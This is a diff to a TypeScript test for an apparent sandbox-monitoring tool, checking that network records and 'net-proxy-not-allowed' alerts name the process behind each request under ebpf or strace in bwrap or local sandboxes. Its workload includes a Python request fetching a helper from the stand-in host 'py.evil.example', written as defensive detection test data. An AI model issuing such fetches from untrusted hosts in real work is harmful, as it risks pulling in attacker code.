@@ -20,8 +20,8 @@ afterAll(() => rmSync(work, { recursive: true, force: true }));
  */
 const WORKLOAD = [
   '/usr/bin/python3 -c "',
-  'import http.client, time',
-  "c = http.client.HTTPConnection('127.0.0.1', 3128)",
+  'import http.client, os, time',
+  "c = http.client.HTTPConnection('127.0.0.1', int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1]))",
   'c.connect()',
   'time.sleep(2)',
   "c.request('GET', 'http://py.evil.example/helper')",
@@ -67,13 +67,22 @@ const lines = (file: string) =>
     .map((l) => JSON.parse(l));
 
 describe.skipIf(!runnable)('each network record and alert names the process that made the request', () => {
-  for (const tracer of ['ebpf', 'strace'] as const) {
-    it(`under ${tracer} in bwrap, with two clients at overlapping times`, { timeout: 120_000 }, async () => {
+  // bwrap: the bridge names each client; local: the loopback proxy reads the kernel's socket table.
+  const cases = [
+    { tracer: 'ebpf', sandbox: 'bwrap' },
+    { tracer: 'strace', sandbox: 'bwrap' },
+    { tracer: 'strace', sandbox: 'local' },
+  ] as const;
+  for (const { tracer, sandbox } of cases) {
+    it(`under ${tracer} in ${sandbox}, with two clients at overlapping times`, {
+      timeout: 120_000,
+    }, async () => {
       const r = await execCli(
-        ['run', task(), '--tracer', tracer, '--sandbox', 'bwrap', '--guard', 'audit', '--json'],
+        ['run', task(), '--tracer', tracer, '--sandbox', sandbox, '--guard', 'audit', '--json'],
         { cwd: work },
       );
-      expect(r.stderr).toBe('');
+      // The local sandbox warns that it isolates nothing; nothing else may be printed.
+      expect(r.stderr.split('\n').filter((l) => l !== '' && !l.includes('warning:'))).toEqual([]);
       const report = JSON.parse(r.stdout);
       expect(report.observation.tracer.kind).toBe(tracer);
       expect(report.tests.passed).toBe(true);
@@ -92,7 +101,7 @@ describe.skipIf(!runnable)('each network record and alert names the process that
       expect(execOf(py?.client?.pid)?.path).toBe('/usr/bin/python3');
       expect(curl?.client?.exe).toBe('/usr/bin/curl');
       expect(execOf(curl?.client?.pid)?.path).toBe('/usr/bin/curl');
-      expect(py?.client?.ns_pid).not.toBe(py?.client?.pid);
+      if (sandbox === 'bwrap') expect(py?.client?.ns_pid).not.toBe(py?.client?.pid);
 
       const alerts: Alert[] = report.alerts.filter((a: Alert) => a.rule === 'net-proxy-not-allowed');
       const pyAlert = alerts.find((a) => a.host === 'py.evil.example');
